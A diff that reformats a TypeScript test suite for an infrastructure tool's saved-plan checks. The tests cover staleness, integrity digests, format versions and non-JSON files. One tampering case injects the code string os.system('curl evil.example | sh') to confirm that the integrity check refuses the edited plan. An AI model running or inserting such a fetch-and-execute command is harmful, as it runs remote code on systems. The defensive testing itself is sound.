@@ -12,15 +12,25 @@ import { commandOptions, copyRepo, FIXTURE_SECRETS, outputsFileOf, platformView 
 import { countingRequests, readValidSavedPlan } from "../../helpers/saved-plan";
 
 const messageOf = (r: CommandResult) => ("message" in r ? (r.message ?? "") : "");
-const actionsOf = (r: CommandResult) => (r.command === "plan" || r.command === "apply" ? (r.plan?.actions ?? []).map((a) => `${a.action} ${a.address}`) : []);
+const actionsOf = (r: CommandResult) =>
+  r.command === "plan" || r.command === "apply" ? (r.plan?.actions ?? []).map((a) => `${a.action} ${a.address}`) : [];
 
 /** An applied valid-full repository with a code change to the loader UDF and a new dashboard for listings. */
 async function editedRepo(fx: EmulatorFixture): Promise<string> {
   const dir = copyRepo("valid-full");
   expect((await applyCommand(commandOptions(dir, fx.emu))).exitCode).toBe(0);
-  writeFileSync(join(dir, "canvases/listings/loader.py"), "@fused.udf\ndef udf(limit: int = 5):\n    return limit * 2\n");
+  writeFileSync(
+    join(dir, "canvases/listings/loader.py"),
+    "@fused.udf\ndef udf(limit: int = 5):\n    return limit * 2\n",
+  );
   const canvas = join(dir, "canvases/listings/canvas.yaml");
-  writeFileSync(canvas, readFileSync(canvas, "utf8").replace('dashboard_body: "Listings in ${var.city}"', 'dashboard_body: "Listings of ${var.city}"'));
+  writeFileSync(
+    canvas,
+    readFileSync(canvas, "utf8").replace(
+      'dashboard_body: "Listings in ${var.city}"',
+      'dashboard_body: "Listings of ${var.city}"',
+    ),
+  );
   return dir;
 }
 
@@ -30,8 +40,10 @@ async function savePlan(fx: EmulatorFixture, dir: string, file = join(dir, "plan
   return { file, saved: readValidSavedPlan(file), planned: r };
 }
 
-const udfByslug = async (fx: EmulatorFixture, slug: string) => (await platformView(fx.user)).udfs.find((u) => u.slug === slug)!;
-const canvasByName = async (fx: EmulatorFixture, name: string) => (await platformView(fx.user)).canvases.find((c) => c.name === name)!;
+const udfByslug = async (fx: EmulatorFixture, slug: string) =>
+  (await platformView(fx.user)).udfs.find((u) => u.slug === slug)!;
+const canvasByName = async (fx: EmulatorFixture, name: string) =>
+  (await platformView(fx.user)).canvases.find((c) => c.name === name)!;
 
 describe("GIVEN a plan saved with plan --out", () => {
   const fx = useEmulator();
@@ -47,7 +59,10 @@ describe("GIVEN a plan saved with plan --out", () => {
     const saved = readValidSavedPlan(file);
     expect(saved.format_version).toBe(2);
     expect(saved.integrity).toMatch(/^sha256:[0-9a-f]{64}$/);
-    expect(saved.plan.actions.map((a) => `${a.action} ${a.address}`)).toEqual(["update canvas.listings", "update udf.listings/loader"]);
+    expect(saved.plan.actions.map((a) => `${a.action} ${a.address}`)).toEqual([
+      "update canvas.listings",
+      "update udf.listings/loader",
+    ]);
     expect(saved.repository.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
     expect(Object.keys(saved.repository.files)).toContain("canvases/listings/loader.py");
     expect(saved.repository.excluded).toContain("plan.json");
@@ -61,14 +76,19 @@ describe("GIVEN a plan saved with plan --out", () => {
     const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: file }));
     expect(r.exitCode, messageOf(r)).toBe(0);
     if (r.command !== "apply") throw new Error("apply expected");
-    expect(r.report!.results.map((x) => `${x.action} ${x.address} ${x.status}`)).toEqual(["update canvas.listings done", "update udf.listings/loader done"]);
+    expect(r.report!.results.map((x) => `${x.action} ${x.address} ${x.status}`)).toEqual([
+      "update canvas.listings done",
+      "update udf.listings/loader done",
+    ]);
     expect((await canvasByName(fx, "listings")).dashboard_body).toBe("Listings of nyc");
     const after = await planCommand(commandOptions(dir, fx.emu));
     expect(actionsOf(after)).toEqual([]);
   });
 
   it("WHEN applied a second time THEN it is stale: its objects changed since (by its own apply)", async () => {
-    const { result: r, writes } = await countingRequests(() => applyCommand(commandOptions(dir, fx.emu, { planFile: file })));
+    const { result: r, writes } = await countingRequests(() =>
+      applyCommand(commandOptions(dir, fx.emu, { planFile: file })),
+    );
     expect(r.exitCode).toBe(1);
     expect(messageOf(r)).toContain("Saved plan is stale");
     expect(writes).toBe(0);
@@ -91,7 +111,9 @@ describe("GIVEN a saved plan and a hand change, on the platform, to an object it
 
   it("WHEN applied THEN apply refuses with exit 1, names the changed object, and sends no write", async () => {
     const before = (await udfByslug(fx, "loader")).udf_body;
-    const { result: r, writes } = await countingRequests(() => applyCommand(commandOptions(dir, fx.emu, { planFile: file })));
+    const { result: r, writes } = await countingRequests(() =>
+      applyCommand(commandOptions(dir, fx.emu, { planFile: file })),
+    );
     expect(r.exitCode).toBe(1);
     expect(messageOf(r)).toMatch(/^Saved plan is stale: /);
     expect(messageOf(r)).toContain(`udf.listings/loader: it (id ${loaderId}) changed on the platform since the plan.`);
@@ -143,7 +165,9 @@ describe("GIVEN a saved plan and an edit of the repository after it", () => {
   });
 
   it("WHEN applied THEN apply refuses, naming the file that changed, and sends no write", async () => {
-    const { result: r, writes } = await countingRequests(() => applyCommand(commandOptions(dir, fx.emu, { planFile: file })));
+    const { result: r, writes } = await countingRequests(() =>
+      applyCommand(commandOptions(dir, fx.emu, { planFile: file })),
+    );
     expect(r.exitCode).toBe(1);
     expect(messageOf(r)).toContain("Saved plan is stale");
     expect(messageOf(r)).toContain("The repository changed since the plan: canvases/reports/weekly.py (changed).");
@@ -155,9 +179,13 @@ describe("GIVEN a saved plan and an edit of the repository after it", () => {
     writeFileSync(other, JSON.stringify({ ...JSON.parse(readFileSync(file, "utf8")), format_version: 7 }));
     const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: other }));
     expect(r.exitCode).toBe(1);
-    expect(messageOf(r)).toBe(`${other} has format_version 7; this svc-iac reads format_version 2. Plan again with this version.`);
+    expect(messageOf(r)).toBe(
+      `${other} has format_version 7; this svc-iac reads format_version 2. Plan again with this version.`,
+    );
     writeFileSync(other, "{}");
-    expect(messageOf(await applyCommand(commandOptions(dir, fx.emu, { planFile: other })))).toContain("is not a svc-iac saved plan: format_version is missing");
+    expect(messageOf(await applyCommand(commandOptions(dir, fx.emu, { planFile: other })))).toContain(
+      "is not a svc-iac saved plan: format_version is missing",
+    );
   });
 });
 
@@ -180,28 +208,45 @@ describe("GIVEN a saved plan edited by hand after it was reviewed", () => {
     const edited = join(dir, "..", `edited-${Math.random().toString(36).slice(2)}.json`);
     writeFileSync(edited, JSON.stringify(doc, null, 2));
     const before = await platformView(fx.user);
-    const { result, writes } = await countingRequests(() => applyCommand(commandOptions(dir, fx.emu, { planFile: edited })));
+    const { result, writes } = await countingRequests(() =>
+      applyCommand(commandOptions(dir, fx.emu, { planFile: edited })),
+    );
     return { result, writes, edited, before, after: await platformView(fx.user) };
   }
 
   it.each<[string, (doc: Record<string, any>) => void]>([
-    ["its stored options (prune and allow_cascade turned on, a lower max_deletions)", (doc) => Object.assign(doc.options, { prune: true, allow_cascade: true, max_deletions: 0 })],
-    ["an action (the loader's new code swapped for other code)", (doc) => {
-      const loader = doc.plan.actions.find((a: { address: string }) => a.address === "udf.listings/loader");
-      loader.fields = loader.fields.map((c: Record<string, unknown>) => (typeof c.to === "string" ? { ...c, to: "import os\nos.system('curl evil.example | sh')\n" } : c));
-      expect(JSON.stringify(loader)).toContain("evil.example");
-    }],
+    [
+      "its stored options (prune and allow_cascade turned on, a lower max_deletions)",
+      (doc) => Object.assign(doc.options, { prune: true, allow_cascade: true, max_deletions: 0 }),
+    ],
+    [
+      "an action (the loader's new code swapped for other code)",
+      (doc) => {
+        const loader = doc.plan.actions.find((a: { address: string }) => a.address === "udf.listings/loader");
+        loader.fields = loader.fields.map((c: Record<string, unknown>) =>
+          typeof c.to === "string" ? { ...c, to: "import os\nos.system('curl evil.example | sh')\n" } : c,
+        );
+        expect(JSON.stringify(loader)).toContain("evil.example");
+      },
+    ],
     ["the list of actions (one action dropped)", (doc) => doc.plan.actions.pop()],
     ["its integrity digest alone", (doc) => (doc.integrity = `sha256:${"0".repeat(64)}`)],
-  ])("WHEN %s was edited and the plan applied THEN apply refuses with exit 1 naming the integrity check, and writes nothing", async (_what, edit) => {
-    const r = await applyEdited(edit);
-    expect(r.result.exitCode).toBe(1);
-    expect(messageOf(r.result)).toMatch(new RegExp(`^${r.edited.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")} was changed after svc-iac plan wrote it: its content \\(the plan's actions, its options or what it was planned against\\) no longer matches its integrity digest sha256:[0-9a-f]{12}…, so nothing was applied\\.`));
-    expect(messageOf(r.result)).toContain(`run svc-iac plan --out ${r.edited} again, review it, and apply that.`);
-    expect(r.writes).toBe(0);
-    expect(r.after).toEqual(r.before);
-    for (const secret of Object.values(FIXTURE_SECRETS)) expect(messageOf(r.result)).not.toContain(secret);
-  });
+  ])(
+    "WHEN %s was edited and the plan applied THEN apply refuses with exit 1 naming the integrity check, and writes nothing",
+    async (_what, edit) => {
+      const r = await applyEdited(edit);
+      expect(r.result.exitCode).toBe(1);
+      expect(messageOf(r.result)).toMatch(
+        new RegExp(
+          `^${r.edited.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")} was changed after svc-iac plan wrote it: its content \\(the plan's actions, its options or what it was planned against\\) no longer matches its integrity digest sha256:[0-9a-f]{12}…, so nothing was applied\\.`,
+        ),
+      );
+      expect(messageOf(r.result)).toContain(`run svc-iac plan --out ${r.edited} again, review it, and apply that.`);
+      expect(r.writes).toBe(0);
+      expect(r.after).toEqual(r.before);
+      for (const secret of Object.values(FIXTURE_SECRETS)) expect(messageOf(r.result)).not.toContain(secret);
+    },
+  );
 
   it("WHEN the integrity field is removed THEN it is not a saved plan this version applies", async () => {
     const r = await applyEdited((doc) => delete doc.integrity);
@@ -211,7 +256,14 @@ describe("GIVEN a saved plan edited by hand after it was reviewed", () => {
 
   it("WHEN the unedited plan is applied with options of its own (prune, allow_cascade) THEN each difference is reported, in the log and the plan's warnings, and the saved plan's options are the ones applied", async () => {
     const logged: string[] = [];
-    const r = await applyCommand(commandOptions(dir, fx.emu, { planFile: file, prune: true, allowCascade: true, log: (line) => logged.push(line) }));
+    const r = await applyCommand(
+      commandOptions(dir, fx.emu, {
+        planFile: file,
+        prune: true,
+        allowCascade: true,
+        log: (line) => logged.push(line),
+      }),
+    );
     expect(r.exitCode, messageOf(r)).toBe(0);
     const expected = [
       "The saved plan was made with prune: false; this apply was asked for prune: true. It applies the saved plan's prune: false.",
@@ -220,7 +272,10 @@ describe("GIVEN a saved plan edited by hand after it was reviewed", () => {
     expect(logged.filter((l) => l.startsWith("The saved plan was made with"))).toEqual(expected);
     if (r.command !== "apply") throw new Error("apply expected");
     expect(r.plan!.warnings).toEqual(expect.arrayContaining(expected));
-    expect(r.report!.results.map((x) => `${x.action} ${x.address}`)).toEqual(["update canvas.listings", "update udf.listings/loader"]);
+    expect(r.report!.results.map((x) => `${x.action} ${x.address}`)).toEqual([
+      "update canvas.listings",
+      "update udf.listings/loader",
+    ]);
   });
 });
 
@@ -250,10 +305,17 @@ describe("GIVEN --plan naming a file that is not JSON, such as a file of tokens"
     writeFileSync(tokenFile, "svc_live_tok_5ecret_9f8e7d6c\n");
     const broken = join(dir, "..", "broken.json");
     writeFileSync(broken, '{"format_version": 2,, "token": "svc_live_tok_5ecret_9f8e7d6c"}');
-    for (const [file, says] of [[tokenFile, "it is cut short or starts with something else"], [broken, "it stops being JSON at character 21"]] as const) {
-      const { result: r, writes } = await countingRequests(() => applyCommand(commandOptions(dir, fx.emu, { planFile: file })));
+    for (const [file, says] of [
+      [tokenFile, "it is cut short or starts with something else"],
+      [broken, "it stops being JSON at character 21"],
+    ] as const) {
+      const { result: r, writes } = await countingRequests(() =>
+        applyCommand(commandOptions(dir, fx.emu, { planFile: file })),
+      );
       expect(r.exitCode).toBe(1);
-      expect(messageOf(r)).toContain(`${file} is not a svc-iac saved plan: it is not JSON (${says}; its content is not shown).`);
+      expect(messageOf(r)).toContain(
+        `${file} is not a svc-iac saved plan: it is not JSON (${says}; its content is not shown).`,
+      );
       expect(messageOf(r)).not.toContain("5ecret");
       expect(writes).toBe(0);
     }
